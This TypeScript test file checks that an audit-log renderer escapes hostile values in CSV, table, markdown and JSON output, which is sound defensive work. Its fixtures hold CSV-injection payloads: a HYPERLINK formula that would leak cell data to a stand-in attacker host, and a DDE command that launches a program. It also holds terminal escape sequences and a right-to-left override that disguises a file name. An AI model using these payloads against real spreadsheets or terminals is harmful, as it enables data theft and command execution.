import type { AuditEntry } from './audit';
import { AUDIT_FORMATS, renderAudit } from './audit-format';

/** A refusal as an attacker shapes it: a request id from a URL path, an actor and a comment of their choosing. */
const hostile: AuditEntry = {
  seq: 7,
  at: new Date('2026-12-04T10:00:00Z'),
  kind: 'refused',
  requestId: '=HYPERLINK("https://evil.test/?"&A1,"open")',
  target: "+1+cmd|' /C calc'!A0",
  actor: '@SUM(1+1)',
  channel: '-2',
  data: { reason: 'unknown token', comment: 'ok\u001b]0;pwned\u0007\u001b[2J\u009b31m\u202egnp.exe\r\tdone' },
  prevHash: `sha256:${'0'.repeat(64)}`,
  hash: `sha256:${'1'.repeat(64)}`,
};
const tabLed: AuditEntry = {
  ...hostile,
  seq: 8,
  requestId: '\t=1+1',
  actor: '\r=2+2',
  target: 'orders',
  channel: null,
  data: {},
};

/** Every character a terminal would act on rather than show; a newline only where the format allows one. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('audit output of hostile values', () => {
  it('CSV: a field a spreadsheet would run as a formula starts with a quote mark (OWASP)', () => {
    const csv = renderAudit([hostile, tabLed], 'csv');
    const [, first, second] = csv.split('\r\n');
    expect(first).toBe(
      `7,2026-12-04T10:00:00.000Z,refused,"'=HYPERLINK(""https://evil.test/?""&A1,""open"")",'+1+cmd|' /C calc'!A0,'@SUM(1+1),'-2,` +
        `"{""reason"":""unknown token"",""comment"":""ok\\u001b]0;pwned\\u0007\\u001b[2J\\u009b31m\\u202egnp.exe\\r\\tdone""}",sha256:${'0'.repeat(64)},sha256:${'1'.repeat(64)}`,
    );
    // A leading tab or carriage return is written out, so no cell starts with one either.
    expect(second.startsWith('8,2026-12-04T10:00:00.000Z,refused,\\u0009=1+1,orders,\\u000d=2+2,,{}')).toBe(true);
  });

  it.each(AUDIT_FORMATS)('%s: no control character reaches the output raw', (format) => {
    const output = renderAudit([hostile, tabLed], format);
    // CSV ends its rows with CRLF (RFC 4180); no other carriage return is left.
    expect(format === 'csv' ? output.replaceAll('\r\n', '\n') : output).not.toMatch(RAW_CONTROL);
  });

  it('table and markdown show the escape sequences as text', () => {
    expect(renderAudit([tabLed], 'table').split('\n')[1]).toContain('\\u0009=1+1  orders  \\u000d=2+2');
    expect(renderAudit([hostile], 'markdown')).toContain('| =HYPERLINK("https://evil.test/?"&A1,"open") |');
  });

  it('JSON gives the same values back to a JSON reader', () => {
    const parsed = JSON.parse(renderAudit([hostile], 'json')) as { requestId: string; data: unknown }[];
    expect(parsed[0].requestId).toBe(hostile.requestId);
    expect(parsed[0].data).toEqual(hostile.data);
  });
});
